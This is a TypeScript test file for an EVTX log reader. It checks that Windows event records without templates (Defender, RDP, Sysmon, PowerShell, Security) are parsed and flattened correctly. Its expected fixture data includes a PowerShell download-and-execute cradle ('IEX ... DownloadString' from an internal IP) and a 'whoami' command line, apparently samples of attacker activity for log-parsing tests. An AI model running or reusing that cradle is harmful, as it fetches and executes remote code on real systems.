/**
 * Issue 12.2: records whose Binary XML starts directly with an element (no template instance) and
 * whose element starts carry no dependency identifier. The fixture is committed and must stay
 * what its generator (test/fixtures/evtx/templateless.ts) writes; regenerate it with
 * `SIGSTREAM_WRITE_FIXTURES=1 npx vitest run test/events/evtx-templateless.test.ts`.
 */
import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import { TEMPLATELESS_FIXTURE, templatelessEvtx } from '../fixtures/evtx/templateless.js';
import { readEvtx, withoutProvenance } from './evtx-helpers.js';

describe('evtx reader: records without a template (issue 12.2)', () => {
  it('the committed fixture is what the generator writes', () => {
    const bytes = templatelessEvtx();
    if (process.env.SIGSTREAM_WRITE_FIXTURES === '1') fs.writeFileSync(TEMPLATELESS_FIXTURE, bytes);
    expect(fs.readFileSync(TEMPLATELESS_FIXTURE).equals(bytes)).toBe(true);
  });

  it('reads every record, templated or not, with no diagnostic', async () => {
    const { events, diagnostics } = await readEvtx('templateless.evtx', TEMPLATELESS_FIXTURE);
    expect(diagnostics).toEqual([]);
    expect(events.map((e) => [e.EventID, e.EventRecordID])).toEqual([[1151, '101'], [21, '102'], [1, '103'], [4104, '104'], [4624, '105']]);
    expect(events[0]['@source']).toEqual({ input: 'templateless.evtx', record: 101 });
  });

  it('flattens System, EventData and UserData of templateless records like any other', async () => {
    const [defender, rdp, sysmon, powershell, security] = (await readEvtx('t.evtx', TEMPLATELESS_FIXTURE)).events.map(withoutProvenance);
    expect(defender).toMatchObject({
      Provider_Name: 'Microsoft-Windows-Windows Defender', Channel: 'Microsoft-Windows-Windows Defender/Operational',
      Computer: 'WS-0412.corp.example', Execution_ProcessID: '3412', '@timestamp': '2025-10-22T20:33:27.2767027Z',
      ProductName: 'Microsoft Defender Antivirus', Platformversion: '4.18.25090.3009', RTPstate: 'Enabled',
    });
    expect(rdp).toMatchObject({ Security_UserID: 'S-1-5-18', User: 'CORP\\alice', SessionID: '3', Address: '10.20.30.40' });
    expect(sysmon).toMatchObject({ EventID: 1, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c whoami' });
    expect(powershell).toMatchObject({ ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5/a.ps1")', Path: '' });
    expect(security).toMatchObject({ Channel: 'Security', TargetUserName: 'alice', LogonType: '10', IpAddress: '10.20.30.40' });
  });
});
